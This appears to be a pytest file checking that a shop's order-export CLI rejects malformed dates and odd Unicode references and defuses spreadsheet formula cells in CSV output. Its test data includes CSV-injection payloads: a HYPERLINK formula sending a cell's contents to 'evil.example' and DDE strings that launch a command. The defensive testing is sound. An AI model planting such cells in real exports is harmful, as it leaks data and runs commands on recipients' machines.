"""Hostile input through the real CLI: odd references, out-of-range dates, formula cells."""

from __future__ import annotations

import csv
import io
import json

import pytest

from perfile_core.services.exports import orders_csv, spreadsheet_safe
from perfile_core.services.order_filters import OrderFilter
from tests.core.helpers import make_order, make_store
from tests.core.test_cli import cli

# Cells a spreadsheet would run: a live link, a DDE command, arithmetic, a function call.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["orders", "export", "--until", "9999-12-31"], "argument --until: 9999-12-31 is out of range"),
        (["orders", "export", "--since", "0001-01-01"], "argument --since: 0001-01-01 is out of range"),
        (["orders", "export", "--until", "2026-02-30"], "argument --until: '2026-02-30' is not a date"),
        (["orders", "export", "--since", "\uff12\uff10\uff12\uff16-01-01"], "is not a date (YYYY-MM-DD)"),
        (["seed-demo", "--anchor", "9999-12-31T23:59:59-01:00"], "argument --anchor: '9999-12-31T23:59:59-01:00' is"),
        (["seed-demo", "--anchor", "0001-01-01T00:30:00+01:00"], "is out of range"),
        (["seed-demo", "--anchor", "2026-01-01T00:00:00"], "has no timezone"),
        (["orders", "export", "--search", "x" * 5000], "search: is 5,000 characters long"),
    ],
)
def test_dates_and_text_out_of_range_exit_2_with_a_message(sqlite_url, args, message):
    result = cli(sqlite_url, *args)
    assert (result.returncode, result.stdout) == (2, "")
    assert message in result.stderr and "Traceback" not in result.stderr


# "\udc80" reaches the command as the undecodable byte 0x80, the way a shell passes it.
@pytest.mark.parametrize("reference", ["²", "٣", "\udc80", "\x7f"], ids=ascii)
def test_odd_order_references_are_not_found(db, db_url, reference):
    make_store(db)
    for _ in range(3):
        make_order(db)  # ids 1-3: an Arabic-Indic three is not order 3

    result = cli(db_url, "orders", "show", reference)

    assert (result.returncode, result.stdout) == (2, "")
    assert "no order matches" in result.stderr and "Traceback" not in result.stderr


def test_invisible_marks_around_a_reference_are_ignored(db, db_url):
    make_store(db)
    order = make_order(db)
    shown = cli(db_url, "orders", "show", f"\u200f{order.order_number}\u202e")
    assert shown.returncode == 0 and f'"id": {order.id}' in shown.stdout


def test_odd_search_text_exports_nothing(db, db_url):
    make_store(db)
    make_order(db, customer_name="Anna Svensson")
    for search in ["\udc80", ":b", "²"]:
        result = cli(db_url, "orders", "export", "--search", search)
        assert (result.returncode, json.loads(result.stdout)) == (0, []), result.stderr


def test_csv_export_neutralizes_formula_cells_and_json_keeps_them(db, db_url):
    make_store(db)
    for name in FORMULA_NAMES:
        make_order(db, customer_name=name, city="-Kiruna", weight_grams=1200)
    make_order(db, customer_name="Anna Svensson", city="Umeå")

    as_json = json.loads(cli(db_url, "orders", "export", "--format", "json").stdout)
    exported = cli(db_url, "orders", "export", "--format", "csv")

    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout, newline="")))
    stored = {row["id"]: row for row in as_json}
    assert len(rows) == len(FORMULA_NAMES) + 1
    for row in rows:
        original = stored[int(row["id"])]
        name = original["customer_name"]
        assert original["weight_grams"] in (1200, None)  # JSON: numbers stay numbers
        if name == "Anna Svensson":
            assert (row["customer_name"], row["city"]) == ("Anna Svensson", "Umeå")
            continue
        assert name.lstrip() in [n.lstrip() for n in FORMULA_NAMES]  # JSON: verbatim, no quote added
        assert row["customer_name"].startswith("'") and row["customer_name"][1:].lstrip() == name.lstrip()
        assert row["city"] == "'-Kiruna" and row["weight_grams"] == "1200"


def test_the_dashboards_download_is_the_same_neutralized_csv(db, db_url):
    make_store(db)
    for name in FORMULA_NAMES:
        make_order(db, customer_name=name)

    def names(text: str) -> list[str]:
        return sorted(row["customer_name"] for row in csv.DictReader(io.StringIO(text, newline="")))

    downloaded = names(orders_csv(db, OrderFilter()))
    assert downloaded == names(cli(db_url, "orders", "export", "--format", "csv").stdout)
    assert len(downloaded) == len(FORMULA_NAMES) and all(name.startswith("'") for name in downloaded)


def test_only_text_cells_are_neutralized():
    assert spreadsheet_safe(-12) == -12 and spreadsheet_safe(-0.5) == -0.5  # numbers are values
    assert spreadsheet_safe("-12") == "'-12"  # text that looks like a number is still text
    assert [spreadsheet_safe(f"{c}x") for c in "=+-@\t\r"] == [f"'{c}x" for c in "=+-@\t\r"]
    assert spreadsheet_safe("a=b") == "a=b" and spreadsheet_safe("") == "" and spreadsheet_safe(None) is None
